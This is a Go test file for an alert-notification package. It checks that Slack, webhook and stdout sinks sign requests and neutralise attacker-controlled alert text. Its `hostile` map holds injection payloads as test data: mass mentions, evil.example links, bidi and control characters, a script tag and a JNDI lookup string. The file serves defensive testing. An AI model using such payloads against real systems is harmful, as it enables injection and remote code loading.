package notify_test

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"io"
	"log"
	"maps"
	"math/big"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/go-viper/mapstructure/v2"
	standardwebhooks "github.com/standard-webhooks/standard-webhooks/libraries/go"

	"github.com/gatehound/gatehound/alerting"
	"github.com/gatehound/gatehound/alerting/notify"
	"github.com/gatehound/gatehound/alerting/notify/stdout"
	"github.com/gatehound/gatehound/schemas"
)

// member is a sink in one configuration.
type member struct {
	name, kind string
	// options returns the options for a receiver at base; nil for a sink
	// without one.
	options func(base string) map[string]any
	// local sends to a sink without a receiver.
	local func(t *testing.T, a *schemas.Alert, key string) []request
	// read takes a request apart and checks that it is genuine.
	read func(t *testing.T, r *http.Request) request
	// accept is the receiver's proper answer.
	accept func(w http.ResponseWriter, r *http.Request)
	// good and permanent are the statuses that it takes for success and for
	// final.
	good, permanent []int
	// needsBody: it does not succeed without the body of an answer.
	needsBody bool
	// secrets are never shown.
	secrets []string
	// harmless checks what a hostile alert was made into.
	harmless func(t *testing.T, r request)
	// ref is one that the sink could have returned.
	ref alerting.Ref
	// keyless: the format has no place for the key.
	keyless bool
	// states is what the body says of each state, in lower case.
	states map[string]string
}

// request is what a receiver got.
type request struct {
	path string
	key  string
	body []byte
	form url.Values
}

const (
	botToken  = "xoxb-0000-not-a-real-token"
	hookPath  = "/services/T000/B000/notarealsecret"
	urlSecret = "/in/notarealpath?token=notarealtoken"
	signingA  = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"
	signingB  = "whsec_C2FVsBQIhrscChlQIMV+b5sSYspob7oD"
)

var slackPermanent = []int{400, 401, 403, 404, 410}

var stateWords = map[string]string{"open": "high", "updated": "high", "resolved": "resolved"}

var family = map[string][]*member{
	"slack": {
		{name: "token", kind: "slack", options: func(base string) map[string]any {
			return map[string]any{"token": botToken, "channel": "C0123456789", "api_url": base + "/api"}
		}, read: readSlackForm, accept: acceptSlack, good: []int{200}, permanent: slackPermanent, needsBody: true,
			secrets: []string{botToken}, harmless: harmlessSlack, ref: "C0123456789/1700000000.000100", states: stateWords},
		{name: "incoming webhook", kind: "slack", options: func(base string) map[string]any {
			return map[string]any{"webhook_url": base + hookPath}
		}, read: readSlackHook, accept: func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write([]byte("ok")) },
			good: []int{200}, permanent: slackPermanent,
			secrets: []string{hookPath, "notarealsecret"}, harmless: harmlessSlack, keyless: true, states: stateWords},
	},
	"webhook": {
		webhookMember("native", map[string]string{"open": `"gatehound.alert.open"`, "updated": `"gatehound.alert.updated"`,
			"resolved": `"gatehound.alert.resolved"`}),
		webhookMember("ocsf", map[string]string{"open": `"type_uid":200401`, "updated": `"type_uid":200402`,
			"resolved": `"type_uid":200403`}),
	},
	"stdout": {
		{name: "stdout", kind: "stdout", local: func(t *testing.T, a *schemas.Alert, key string) []request {
			var out bytes.Buffer
			if _, err := stdout.NewWriter("out", &out).Notify(t.Context(), a, key, ""); err != nil {
				t.Fatal(err)
			}
			return []request{{body: out.Bytes()}}
		}, harmless: harmlessJSON, keyless: true, states: map[string]string{"open": `"state":"open"`,
			"updated": `"state":"updated"`, "resolved": `"state":"resolved"`}},
	},
}

func webhookMember(format string, states map[string]string) *member {
	return &member{name: format, kind: "webhook", options: func(base string) map[string]any {
		return map[string]any{"url": base + urlSecret, "secrets": []string{signingA, signingB}, "body": format}
	}, read: readSigned, accept: func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusNoContent) },
		good: []int{200, 202, 204}, permanent: []int{401, 403, 404, 410},
		secrets:  []string{"notarealpath", "notarealtoken", signingA, signingB, signingA[6:]},
		harmless: harmlessJSON, states: states}
}

// make builds the sink the way the program does.
func (m *member) make(t *testing.T, base string, more map[string]any) alerting.Sink {
	t.Helper()
	options := m.options(base)
	maps.Copy(options, more)
	sinks, err := notify.Build([]alerting.SinkConfig{{Name: "x", Kind: m.kind, Options: options}}, decode)
	if err != nil {
		t.Fatal(err)
	}
	if sinks[0].Name() != "x" {
		t.Errorf("the sink is named %q", sinks[0].Name())
	}
	return sinks[0]
}

func decode(options map[string]any, into notify.Config) error {
	d, err := mapstructure.NewDecoder(&mapstructure.DecoderConfig{ErrorUnused: true, Result: into})
	if err != nil {
		return err
	}
	return d.Decode(options)
}

func readAll(t *testing.T, r *http.Request) []byte {
	raw, err := io.ReadAll(r.Body)
	if err != nil {
		t.Error(err)
	}
	return raw
}

// readSigned verifies the signatures with the library of Standard Webhooks.
func readSigned(t *testing.T, r *http.Request) request {
	raw := readAll(t, r)
	for _, secret := range []string{signingA, signingB} {
		wh, err := standardwebhooks.NewWebhook(secret)
		if err != nil {
			t.Error(err)
		} else if err := wh.Verify(raw, r.Header); err != nil {
			t.Errorf("signature: %v", err)
		}
	}
	if r.Method != http.MethodPost || r.Header.Get("Content-Type") != "application/json" || r.URL.RequestURI() != urlSecret {
		t.Errorf("got %s %s", r.Method, r.Header.Get("Content-Type"))
	}
	return request{path: r.URL.Path, key: r.Header.Get("webhook-id"), body: raw}
}

func readSlackForm(t *testing.T, r *http.Request) request {
	form, err := url.ParseQuery(string(readAll(t, r)))
	if err != nil {
		t.Error(err)
	}
	if form.Get("token") != botToken {
		t.Error("the token is missing")
	}
	for name, want := range map[string]string{"parse": "none", "link_names": "false", "mrkdwn": "false", "unfurl_links": "false", "unfurl_media": "false"} {
		if form.Get(name) != want {
			t.Errorf("%s is %q, want %q", name, form.Get(name), want)
		}
	}
	var meta struct {
		Payload struct {
			Key string `json:"key"`
		} `json:"event_payload"`
	}
	if err := json.Unmarshal([]byte(form.Get("metadata")), &meta); err != nil {
		t.Errorf("metadata: %v", err)
	}
	return request{path: r.URL.Path, key: meta.Payload.Key, body: []byte(form.Get("text") + "\n" + form.Get("blocks")), form: form}
}

func readSlackHook(t *testing.T, r *http.Request) request {
	raw := readAll(t, r)
	var msg struct {
		Text   string          `json:"text"`
		Blocks json.RawMessage `json:"blocks"`
		Parse  string          `json:"parse"`
	}
	if err := json.Unmarshal(raw, &msg); err != nil {
		t.Error(err)
	}
	return request{path: r.URL.Path, body: raw, form: url.Values{"text": {msg.Text}, "blocks": {string(msg.Blocks)}, "parse": {msg.Parse}}}
}

func acceptSlack(w http.ResponseWriter, _ *http.Request) {
	w.Header().Set("Content-Type", "application/json")
	_, _ = w.Write([]byte(`{"ok":true,"channel":"C0123456789","ts":"1700000000.000100"}`))
}

// hostile are texts that an attacker could get into an alert.
var hostile = map[string]string{
	"mentions":      "<!channel> <!here> <!everyone> <@U012AB3CD> <#C0123> @here @channel @everyone <!subteam^S012>",
	"links":         "<https://evil.example/x|your bank> https://evil.example http://evil.example/ [click](https://evil.example) mailto:a@evil.example",
	"markup":        "*bold* _italic_ ~gone~ `code` ``` end of block ``` > quote\n# head :skull: &lt;b&gt; &amp;amp;",
	"bidi":          "user\u202egnp.exe \u2066\u2067\u2068\u2069 \u200e\u200f \u061c",
	"invisible":     "a\u200b\u200c\u200d\u2060\ufeff\u00ad\u3164\u115f\U000e0041\U000e0042b\ufe0f\u034f",
	"controls":      "a\x00\x07\x08\x1b[31mred\x1b[0m\x7f\u0085\u009b31m\r\nINJECTED: line\t\v\f\u2028\u2029",
	"invalid utf-8": "a\xff\xfe\xc0\xaf\xed\xa0\x80 b",
	"zalgo":         "z" + strings.Repeat("\u0300\u0301\u0336", 200),
	"json":          `","admin":true,"x":"\u0000 </script><script>alert(1)</script> ${jndi:ldap://evil.example/x} {{7*7}}`,
	"astral":        strings.Repeat("𝒳😀", 3000),
	"long":          strings.Repeat("<&>", 7_000),
	"empty":         "",
}

// fill sets every string that can be reached from v.
func fill(v any, text string) { fillValue(reflect.ValueOf(v).Elem(), text) }

func fillValue(v reflect.Value, text string) {
	switch v.Kind() {
	case reflect.String:
		v.SetString(text)
	case reflect.Pointer:
		if v.IsNil() {
			v.Set(reflect.New(v.Type().Elem()))
		}
		fillValue(v.Elem(), text)
	case reflect.Slice:
		for i := range v.Len() {
			fillValue(v.Index(i), text)
		}
	case reflect.Struct:
		for i := range v.NumField() {
			if v.Field(i).CanSet() {
				fillValue(v.Field(i), text)
			}
		}
	}
}

func sample(state schemas.AlertState) schemas.Alert {
	at := time.Date(2026, 11, 20, 12, 0, 0, 0, time.UTC)
	f := schemas.Finding{
		ID: "0123456789abcdef0123456789abcdef", Detector: "extraction.harvest",
		Entity:   schemas.Entity{Kind: schemas.EntityPrincipal, Name: "h1:k1:q83vEjRWeJA"},
		Severity: schemas.SeverityHigh, Confidence: 0.87, Title: "Model extraction", Summary: "One caller asks like a machine.",
		WindowStart: at, WindowEnd: at.Add(time.Hour), Detected: at.Add(time.Hour), Events: 5021,
		Features: []schemas.Feature{
			{Name: "requests", Observed: 5021, Expected: 240, Unit: "requests/h", Weight: 0.6, Text: "requests in an hour"},
			{Name: "distinct_prompts", Observed: 0.997, Expected: 0.4, Weight: 0.4, Text: "share of distinct prompts"},
		},
		Techniques: []schemas.Technique{
			{Framework: "MITRE ATLAS", ID: "AML.T0024.002", Name: "Extract AI Model"},
			{Framework: "MITRE ATT&CK", ID: "T1110", Name: "Brute Force"},
			{Framework: "OWASP LLM 2025", ID: "LLM10", Name: "Unbounded Consumption"},
		},
		Query:    "SELECT time, route FROM events WHERE principal = 'h1:k1:q83vEjRWeJA' AND status < 500",
		Provider: "openai", Model: "gpt-4o",
	}
	return schemas.Alert{
		ID: "fedcba9876543210fedcba9876543210", Fingerprint: "aaaaaaaaaaaaaaaabbbbbbbbbbbbbbbb", State: state, Sequence: 1 + int(state),
		Severity: f.Severity, Confidence: f.Confidence, Title: f.Title, Summary: f.Summary, Detector: f.Detector, Entity: f.Entity,
		Tenant: "acme", FirstSeen: at, LastSeen: f.WindowEnd, Findings: 3, Events: 12000, Finding: f,
	}
}

// visible checks that text has nothing that acts on a viewer or is not shown.
func visible(t *testing.T, where, text string) {
	t.Helper()
	if !utf8.ValidString(text) {
		t.Errorf("%s is no valid UTF-8", where)
	}
	marks := 0
	for _, c := range text {
		if unicode.Is(unicode.M, c) {
			marks++
		} else {
			marks = 0
		}
		if c != '\n' && c != '\t' && (unicode.IsControl(c) || unicode.In(c, unicode.Cf, unicode.Zl, unicode.Zp, unicode.Co)) || marks > 3 {
			t.Errorf("%s has %U", where, c)
			return
		}
	}
}

// harmlessJSON: the document is one line of valid JSON that a terminal can
// show.
func harmlessJSON(t *testing.T, r request) {
	t.Helper()
	doc := strings.TrimSuffix(string(r.body), "\n")
	visible(t, "the document", strings.Map(func(c rune) rune {
		if unicode.Is(unicode.M, c) { // JSON keeps marks, within strings
			return -1
		}
		return c
	}, doc))
	if strings.ContainsAny(doc, "\n\r<>") || !json.Valid([]byte(doc)) {
		t.Errorf("the document is not one line of valid JSON: %.200s", doc)
	}
}

var (
	ownLink = regexp.MustCompile(`<https://(atlas\.mitre\.org|attack\.mitre\.org|genai\.owasp\.org|owasp\.org)/[A-Za-z0-9./-]*\|[^<>|]*>`)
	entity  = regexp.MustCompile(`&(amp|lt|gt);`)
	mention = regexp.MustCompile(`(?i)@(here|channel|everyone)`)
)

// harmlessSlack: nothing of the alert's text is markup, a mention or a link,
// and Slack's limits are kept.
func harmlessSlack(t *testing.T, r request) {
	t.Helper()
	inert := func(where, text string, limit int) {
		t.Helper()
		visible(t, where, text)
		if n := utf8.RuneCountInString(text); n > limit || n == 0 {
			t.Errorf("%s has %d characters, want 1 to %d", where, n, limit)
		}
		bare := entity.ReplaceAllString(text, "")
		if strings.ContainsAny(bare, "<>&") || mention.MatchString(bare) {
			t.Errorf("%s is not escaped: %.200q", where, text)
		}
	}
	text := r.form.Get("text")
	inert("the text", text, 4000)
	if strings.ContainsAny(text, "*`~\n") || strings.Contains(text, "://") {
		t.Errorf("the text has markup: %.200q", text)
	}
	var blocks []struct {
		Type   string
		Text   *struct{ Type, Text string }
		Fields []struct{ Type, Text string }
		// A context's elements.
		Elements []struct{ Type, Text string }
	}
	if err := json.Unmarshal([]byte(r.form.Get("blocks")), &blocks); err != nil {
		t.Fatal(err)
	}
	if len(blocks) == 0 || len(blocks) > 50 {
		t.Errorf("%d blocks", len(blocks))
	}
	check := func(kind, typ, text string, limit int) {
		t.Helper()
		switch {
		case typ == "plain_text":
			inert(kind, text, limit)
			if strings.Contains(text, "://") {
				t.Errorf("%s has a link: %.200q", kind, text)
			}
			if strings.Contains(text, "INJECTED") && strings.Contains(text, "\nINJECTED") {
				t.Errorf("%s has a line of the attacker's", kind)
			}
		case kind == "context":
			inert(kind, ownLink.ReplaceAllString(text, "link"), limit)
			if strings.ContainsAny(text, "*`~") {
				t.Errorf("%s has markup: %.200q", kind, text)
			}
		default: // the query
			rest, ok1 := strings.CutPrefix(text, "*Evidence*\n```\n")
			rest, ok2 := strings.CutSuffix(rest, "\n```")
			if !ok1 || !ok2 || strings.Contains(rest, "`") {
				t.Errorf("%s is no code block: %.200q", kind, text)
			}
			inert(kind, rest, limit)
		}
	}
	for _, b := range blocks {
		limit := 3000
		if b.Type == "header" {
			limit = 150
		}
		if b.Text != nil {
			check(b.Type, b.Text.Type, b.Text.Text, limit)
		}
		if len(b.Fields) > 10 || len(b.Elements) > 10 {
			t.Errorf("%d fields, %d elements", len(b.Fields), len(b.Elements))
		}
		for _, f := range b.Fields {
			check("field", f.Type, f.Text, 2000)
		}
		for _, e := range b.Elements {
			check("context", e.Type, e.Text, 2000)
		}
	}
}

func has(list []int, n int) bool { return slices.Contains(list, n) }

func quietLog() *log.Logger { return log.New(io.Discard, "", 0) }

func writeClientCert(t *testing.T) (certFile, keyFile string) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), NotAfter: time.Now().Add(time.Hour)}
	cert, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, key.Public(), key)
	if err != nil {
		t.Fatal(err)
	}
	der, err := x509.MarshalPKCS8PrivateKey(key)
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	certFile, keyFile = filepath.Join(dir, "cert.pem"), filepath.Join(dir, "key.pem")
	for file, block := range map[string]*pem.Block{certFile: {Type: "CERTIFICATE", Bytes: cert}, keyFile: {Type: "PRIVATE KEY", Bytes: der}} {
		if err := os.WriteFile(file, pem.EncodeToMemory(block), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return certFile, keyFile
}
